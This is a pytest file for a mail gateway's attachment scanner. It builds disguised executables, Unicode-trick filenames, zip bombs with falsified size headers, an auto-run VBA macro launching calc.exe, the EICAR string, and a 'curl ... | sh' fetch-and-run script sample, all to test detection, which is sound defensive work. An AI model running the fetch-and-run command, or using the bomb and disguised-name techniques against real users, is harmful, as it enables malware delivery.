"""The gateway's hostile-file check: every sample is built here, from bytes."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trustdesk.mailgateway.analysis.attachments import CODES, Finding, Limits, scan

from .ole_builder import compound_file, vba_project

MiB = 1024 * 1024
# The EICAR test file, from pieces: the whole string in this file would make virus
# scanners on developers' machines quarantine it.
EICAR = "".join(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!",
                 "$H+H*"]).encode()
PE = (b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200)
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 120
MACHO = b"\xcf\xfa\xed\xfe" + b"\0" * 60
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 70
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0" * 40
MACRO = 'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'


def codes(finding: Finding) -> set[str]:
    return {code for code, _ in finding.flags}


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, body in members.items():
            z.writestr(name, body)
    return buf.getvalue()


def patch_zip(data: bytes, *, flag_bits: int | None = None, size: int | None = None) -> bytes:
    """Rewrites every entry's general-purpose flags and/or uncompressed size, in both the
    local headers and the central directory, the way a hand-made hostile zip would."""
    out = bytearray(data)
    for sig, flags_at, size_at in ((b"PK\x03\x04", 6, 22), (b"PK\x01\x02", 8, 24)):
        at = out.find(sig)
        while at != -1:
            if flag_bits is not None:
                struct.pack_into("<H", out, at + flags_at, flag_bits)
            if size is not None:
                struct.pack_into("<I", out, at + size_at, size)
            at = out.find(sig, at + 4)
    return bytes(out)


def ooxml(extra: dict[str, bytes] | None = None) -> bytes:
    members = {"[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
                                      b'openxmlformats.org/package/2006/content-types"/>',
               "word/document.xml": b'<?xml version="1.0"?><w:document/>'}
    members.update(extra or {})
    return zip_of(members)


# -- the real type, by content -------------------------------------------------------------

@pytest.mark.parametrize(("data", "real"), [
    (PE, "application/vnd.microsoft.portable-executable"), (ELF, "application/x-executable"),
    (MACHO, "application/x-mach-binary"), (SCRIPT, "text/x-script"),
    (LNK, "application/x-ms-shortcut"),
])
def test_a_program_named_harmless_is_found_by_its_bytes(data, real):
    finding = scan("invoice.pdf", "application/pdf", data)
    assert finding.real_type == real
    assert {"executable", "type_mismatch"} <= codes(finding)
    assert not finding.clean


@pytest.mark.parametrize(("name", "declared", "data", "real"), [
    ("invoice.pdf", "application/pdf", PDF, "application/pdf"),
    ("photo.png", "image/png", PNG, "image/png"),
    ("notes.txt", "text/plain", b"MZ is the start of this note\n", "text/plain"),
    ("data.csv", "text/csv", b"a,b\n1,2\n", "text/plain"),
])
def test_harmless_files_are_clean(name, declared, data, real):
    finding = scan(name, declared, data)
    assert finding == Finding(real, ())
    assert finding.clean


def test_html_is_its_own_flag_and_found_by_content():
    page = b"\xef\xbb\xbf  <!DOCTYPE html><html><form action=https://x.invalid>"
    finding = scan("statement.txt", "text/plain", page)
    assert finding.real_type == "text/html"
    assert codes(finding) == {"html", "type_mismatch"}
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
    assert codes(scan("logo.png", "image/png", svg)) == {"html", "type_mismatch"}
    assert codes(scan("page.html", "text/html", b"<p>hello")) == {"html"}
    assert scan("maths.txt", "text/plain", b"1 < 2 and <b is not a tag\n").clean


# -- executables and scripts by name --------------------------------------------------------

@pytest.mark.parametrize("name", ["setup.exe", "screen.SCR", "run.bat", "run.cmd", "x.ps1",
                                  "x.vbs", "x.vbe", "x.js", "x.jse", "x.wsf", "x.hta",
                                  "shortcut.lnk", "pkg.msi", "app.jar", "lib.dll", "x.cpl",
                                  "settings.reg", "disk.iso", "disk.img", "x.com"])
def test_executable_extensions_are_flagged(name):
    finding = scan(name, "application/octet-stream", b"harmless bytes")
    assert "executable" in codes(finding)
    assert name.rsplit(".", 1)[1].lower() in dict(finding.flags)["executable"]


def test_an_executable_declared_type_is_flagged():
    assert "executable" in codes(scan("file", "application/x-msdownload; name=x", b"hi"))
    assert scan("file.txt", "text/plain; charset=utf-8", b"hi").clean


# -- names that hide their extension --------------------------------------------------------

@pytest.mark.parametrize(("name", "expected"), [
    ("invoice.pdf.exe", {"executable", "double_extension"}),
    ("Invoice.PDF.js", {"executable", "double_extension"}),
    ("invoice.pdf                    .exe", {"executable", "double_extension",
                                             "deceptive_name"}),
    ("invoice\u202efdp.exe", {"executable", "deceptive_name"}),  # shown as invoiceexe.pdf
    ("report.doc\u200b.scr", {"executable", "double_extension", "deceptive_name"}),
    ("setup.exe. . .", {"executable"}),  # Windows drops the trailing dots and spaces
    ("C:\\Users\\x\\invoice.pdf.exe", {"executable", "double_extension"}),
    ("statement.pdf.html", {"html", "double_extension"}),
])
def test_hidden_extensions(name, expected):
    assert codes(scan(name, "", b"plain words")) == expected


@pytest.mark.parametrize("name", ["backup.tar.gz", "my.report.v2.txt", "photo.2024.06.jpg",
                                  "résumé.txt"])
def test_dotted_names_are_not_double_extensions(name):
    data = gzip.compress(b"words") if name.endswith(".gz") else b"words"
    assert scan(name, "", data).clean


# -- archives --------------------------------------------------------------------------------

def test_an_executable_inside_a_zip_is_flagged_with_its_member_name():
    finding = scan("docs.zip", "application/zip", zip_of({"readme.txt": b"hi",
                                                          "tools/update.exe": PE}))
    assert finding.real_type == "application/zip"
    assert codes(finding) == {"executable"}
    assert all("tools/update.exe" in text for _, text in finding.flags)
    assert scan("docs.zip", "application/zip", zip_of({"readme.txt": b"hi"})).clean


def test_members_are_found_by_content_and_through_nesting():
    inner = zip_of({"photo.jpg": PE})
    finding = scan("outer.zip", "", zip_of({"inner.zip": inner}))
    assert {"executable", "type_mismatch"} <= codes(finding)
    assert all("inner.zip" in t and "photo.jpg" in t for _, t in finding.flags)


def test_tar_gz_members_are_scanned():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("bin/run.sh")
        info.size = len(SCRIPT)
        tar.addfile(info, io.BytesIO(SCRIPT))
    finding = scan("release.tar.gz", "application/gzip", buf.getvalue())
    assert codes(finding) == {"executable"}
    assert "bin/run.sh" in finding.flags[0][1]
    assert "release.tar" in finding.flags[0][1]


def test_a_gzipped_program_is_flagged():
    finding = scan("tool.gz", "", gzip.compress(PE))
    assert "executable" in codes(finding)


def test_a_zip_appended_to_a_picture_is_opened():
    finding = scan("cat.png", "image/png", PNG + zip_of({"run.exe": PE}))
    assert finding.real_type == "image/png"
    assert codes(finding) == {"hidden_archive", "executable"}
    assert any("run.exe" in text for code, text in finding.flags if code == "executable")
    assert scan("cat.png", "image/png", PNG + b"PK\x05\x06 not a zip").clean


def test_a_disk_image_is_found_by_content():
    iso = b"\0" * 0x8001 + b"CD001" + b"\0" * 2000
    finding = scan("scan.pdf", "application/pdf", iso)
    assert finding.real_type == "application/x-iso9660-image"
    assert codes(finding) == {"executable", "type_mismatch"}


def test_web_pages_in_a_zip_are_flagged_but_not_the_parts_of_a_document():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'
    assert codes(scan("site.zip", "", zip_of({"index.html": b"<html>hi"}))) == {"html"}
    assert scan("report.docx", "", ooxml({"word/media/image1.svg": svg})).clean
    epub = zip_of({"mimetype": b"application/epub+zip",
                   "OEBPS/chapter1.xhtml": b"<html><body>Once upon a time"})
    assert scan("book.epub", "application/epub+zip", epub).clean
    # A program is a program wherever it is.
    assert codes(scan("report.docx", "", ooxml({"word/media/image1.png": PE}))) == {
        "executable", "type_mismatch"}


def test_outlook_attachments_are_not_scannable():
    message = {"__substg1.0_0037001F": "Invoice".encode("utf-16-le")}
    with_attachment = {**message, "__attach_version1.0_#00000000": {
        "__substg1.0_37010102": PE}}
    assert codes(scan("fwd.msg", "", compound_file(with_attachment))) == {"unscannable"}
    assert scan("fwd.msg", "", compound_file(message)).clean
    tnef = b"\x78\x9f\x3e\x22" + b"\0" * 100
    assert codes(scan("winmail.dat", "application/ms-tnef", tnef)) == {"unscannable"}


def test_encrypted_zip_entries_are_flagged():
    plain = zip_of({"secret.txt": b"attack at dawn"}, zipfile.ZIP_STORED)
    assert scan("x.zip", "", plain).clean
    finding = scan("x.zip", "", patch_zip(plain, flag_bits=0x1))
    assert codes(finding) == {"encrypted"}
    assert "secret.txt" in finding.flags[0][1]


def test_7z_and_rar_are_not_scannable():
    seven = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 40
    rar = b"Rar!\x1a\x07\x01\x00" + b"\0" * 40
    assert codes(scan("a.7z", "", seven)) == {"unscannable"}
    assert codes(scan("a.rar", "", rar)) == {"unscannable"}


def test_a_damaged_zip_is_unreadable():
    data = zip_of({"a.txt": b"hello" * 100})
    assert codes(scan("a.zip", "", data[:40] + b"\0" * 30 + data[70:])) == {"unreadable"}


# -- archive bombs ---------------------------------------------------------------------------

def test_declared_size_past_the_bound_is_too_large():
    bomb = zip_of({"zeros.bin": b"\0" * (20 * MiB)})
    assert len(bomb) < 100 * 1024
    assert codes(scan("bomb.zip", "", bomb, limits=Limits(max_unpacked=8 * MiB))) == {
        "too_large"}


def test_a_zip_that_lies_about_its_sizes_is_bounded_while_reading():
    bomb = patch_zip(zip_of({"zeros.bin": b"\0" * (20 * MiB)}), size=100)
    assert zipfile.ZipFile(io.BytesIO(bomb)).infolist()[0].file_size == 100
    # The headers say 100 bytes: only counting the bytes as they come stops it.
    assert codes(scan("bomb.zip", "", bomb, limits=Limits(max_unpacked=4 * MiB))) == {
        "too_large"}
    # Within the bound, the lie itself and the ratio are found.
    small = patch_zip(zip_of({"zeros.bin": b"\0" * (2 * MiB)}), size=100)
    finding = scan("bomb.zip", "", small)
    assert codes(finding) == {"archive_bomb"}
    assert any("more than its header says" in text for _, text in finding.flags)


def test_compression_ratio():
    assert codes(scan("z.zip", "", zip_of({"zeros.bin": b"\0" * (5 * MiB)}))) == {
        "archive_bomb"}
    # Below the floor a file of repeated bytes is harmless; ordinary text is far below
    # the ratio.
    assert scan("z.zip", "", zip_of({"zeros.bin": b"\0" * (100 * 1024)})).clean
    text = b"".join(b"%d,customer-%d,%x\n" % (i, i * 7, i * 31337) for i in range(200_000))
    assert len(text) > 2 * MiB
    assert scan("t.zip", "", zip_of({"export.csv": text})).clean


@pytest.mark.parametrize(("compress", "suffix"), [(gzip.compress, ".gz"),
                                                (bz2.compress, ".bz2"),
                                                (lzma.compress, ".xz")])
def test_compressed_file_bombs(compress, suffix):
    zeros = compress(b"\0" * (5 * MiB))
    assert codes(scan("z" + suffix, "", zeros)) == {"archive_bomb"}
    assert codes(scan("z" + suffix, "", zeros, limits=Limits(max_unpacked=1 * MiB))) == {
        "too_large"}
    assert codes(scan("z" + suffix, "", zeros[:len(zeros) // 2])) == {"unreadable"}
    text = b"".join(b"%d,customer-%d,%x\n" % (i, i * 7, i * 31337) for i in range(50_000))
    assert len(text) > Limits().ratio_floor
    assert scan("export.csv" + suffix, "", compress(text)).clean
    assert scan("notes.txt" + suffix, "", compress(b"hello\n" * 1000)).clean
    # Concatenated members are all unpacked: the program is in the second.
    assert "executable" in codes(scan("a" + suffix, "", compress(b"") + compress(PE)))


def test_entry_count():
    many = zip_of({f"f{i}.txt": b"x" for i in range(50)})
    assert codes(scan("m.zip", "", many, limits=Limits(max_entries=10))) == {"archive_bomb"}
    assert scan("m.zip", "", many, limits=Limits(max_entries=60)).clean


def test_nesting_depth():
    data = b"hello"
    for level in range(6):
        data = zip_of({f"level{level}.zip" if level else "hello.txt": data})
    assert codes(scan("deep.zip", "", data, limits=Limits(max_depth=4))) == {"archive_bomb"}
    assert scan("deep.zip", "", data, limits=Limits(max_depth=7)).clean


# -- Office macros ---------------------------------------------------------------------------

def test_the_built_vba_project_is_real():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # olevba's pyparsing names
        from oletools import olevba
    doc = compound_file(vba_project(MACRO))
    macros = list(olevba.VBA_Parser("x.doc", data=doc).extract_macros())
    assert [m[2] for m in macros] == ["Module1.bas"]
    assert "Shell" in macros[0][3]


def test_ole_documents_with_and_without_macros():
    with_vba = compound_file({"WordDocument": b"\0" * 600, **vba_project(MACRO)})
    finding = scan("letter.doc", "application/msword", with_vba)
    assert finding.real_type == "application/x-ole-storage"
    assert codes(finding) == {"macros"}
    assert scan("letter.doc", "application/msword",
                compound_file({"WordDocument": b"\0" * 600})).clean


def test_ooxml_with_macros_also_when_renamed_docx():
    bin_ = compound_file(vba_project(MACRO))
    docm = ooxml({"word/vbaProject.bin": bin_})
    assert codes(scan("report.docm", "", docm)) == {"macros"}
    renamed = scan("report.docx", "", docm)
    assert codes(renamed) == {"macros"}
    assert ".docx" in renamed.flags[0][1]
    assert scan("report.docx", "", ooxml()).clean


def test_a_macro_workbook_embedded_in_a_document_is_found():
    xlsm = zip_of({"[Content_Types].xml": b"<Types/>",
                   "xl/vbaProject.bin": compound_file(vba_project(MACRO))})
    docx = ooxml({"word/embeddings/Microsoft_Excel_Worksheet.xlsm": xlsm})
    finding = scan("report.docx", "", docx)
    assert codes(finding) == {"macros"}
    assert "Microsoft_Excel_Worksheet.xlsm" in finding.flags[0][1]


def test_text_that_mentions_office_xml_is_not_a_document():
    text = b"See http://schemas.microsoft.com/office/2006/xmlPackage for the format.\n"
    assert scan("notes.txt", "text/plain", text).clean


def test_no_office_check_on_a_package_left_closed():
    # The first member (a bomb that lies about its size) passes the bound; the document
    # after it is not opened, so olevba never reads it, and the file is flagged.
    bomb = patch_zip(zip_of({"zeros.bin": b"\0" * (3 * MiB)}), size=100)
    docm = ooxml({"word/vbaProject.bin": compound_file(vba_project(MACRO))})
    assert codes(scan("x.zip", "", zip_of({"report.docm": docm}))) == {"macros"}
    finding = scan("x.zip", "", zip_of({"bomb.zip": bomb, "report.docm": docm}),
                   limits=Limits(max_unpacked=2 * MiB))
    assert codes(finding) == {"too_large"}


def test_unreadable_office_files_fail_closed():
    broken_ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(2000)
    assert codes(scan("letter.doc", "", broken_ole)) == {"unreadable"}
    broken_member = ooxml({"word/vbaProject.bin": broken_ole})
    assert codes(scan("report.docm", "", broken_member)) == {"unreadable"}
    assert codes(scan("report.xlsx", "", b"not a spreadsheet at all")) == {"unreadable"}


def test_msi_is_an_executable_by_content():
    msi = compound_file({"x": b"abc"}, root_clsid=bytes.fromhex(
        "8410 0c00 0000 0000 c000 0000 0000 0046".replace(" ", "")))
    assert codes(scan("update.doc", "", msi)) == {"executable"}


# -- encryption ------------------------------------------------------------------------------

def test_encrypted_pdf():
    encrypted = PDF.replace(b"trailer << ", b"trailer << /Encrypt 2 0 R ")
    assert codes(scan("s.pdf", "application/pdf", encrypted)) == {"encrypted"}
    assert scan("s.pdf", "application/pdf", PDF).clean


def test_encrypted_office_document():
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(ooxml())).encrypt("correct horse", out)
    finding = scan("salaries.docx", "", out.getvalue())
    assert finding.real_type == "application/x-ole-storage"
    assert codes(finding) == {"encrypted"}


# -- EICAR -----------------------------------------------------------------------------------

def test_eicar():
    assert len(EICAR) == 68
    assert codes(scan("eicar.com.txt", "text/plain", EICAR)) == {"eicar"}
    assert codes(scan("eicar.txt", "", EICAR + b"\r\n\x1a")) == {"eicar"}
    inside = scan("test.zip", "", zip_of({"eicar.txt": EICAR}))
    assert codes(inside) == {"eicar"}
    assert "eicar.txt" in inside.flags[0][1]
    assert scan("x.txt", "", b"#" + EICAR).clean  # not the test file: it must start it
    assert scan("x.txt", "", EICAR[:-1]).clean


# -- hostile input never raises --------------------------------------------------------------

PREFIXES = [b"", b"PK\x03\x04", b"PK\x05\x06", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\x00", b"MZ", b"%PDF-", b"<html>", b"#!"]
NAMES = st.text(max_size=40) | st.sampled_from(
    ["a.docm", "a.doc", "a.zip", "a.tar", "a.gz", "a.pdf", "a.pdf.exe", "x\u202e.exe"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prefix=st.sampled_from(PREFIXES), body=st.binary(max_size=3000), name=NAMES,
       declared=st.text(max_size=30) | st.sampled_from(["application/zip", "text/html"]))
def test_random_input_never_raises(prefix, body, name, declared):
    finding = scan(name, declared, prefix + body)
    assert isinstance(finding.real_type, str) and finding.real_type
    assert codes(finding) <= set(CODES)
    assert finding.clean == (not finding.flags)
    # The catch-all is for the unforeseen, not for what the checks should handle.
    assert all("scanner could not read the file" not in text for _, text in finding.flags)


@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_mutated_archives_never_raise(data):
    sample = data.draw(st.sampled_from([
        zip_of({"a.txt": b"hello" * 50, "b.exe": PE}), gzip.compress(b"x" * 500),
        ooxml({"word/vbaProject.bin": compound_file(vba_project(MACRO))}),
        compound_file(vba_project(MACRO))]))
    raw = bytearray(sample)
    for _ in range(data.draw(st.integers(1, 8))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    finding = scan("sample.docm", "", bytes(raw))
    assert codes(finding) <= set(CODES)
    assert all("scanner could not read the file" not in text for _, text in finding.flags)


def test_the_scanner_and_the_clamd_client_import_without_django():
    env = {k: v for k, v in os.environ.items() if k != "DJANGO_SETTINGS_MODULE"}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[2] / "src")
    code = ("import sys\n"
            "from trustdesk.mailgateway.analysis.attachments import scan\n"
            "from trustdesk.mailgateway import clamd\n"
            "print(sorted(scan('a.exe', '', b'x').codes))\n"
            "print([m for m in sys.modules if m == 'django' or m.startswith('django.')])\n")
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
                         text=True, check=True, timeout=60)
    assert out.stdout.splitlines() == ["['executable']", "[]"]
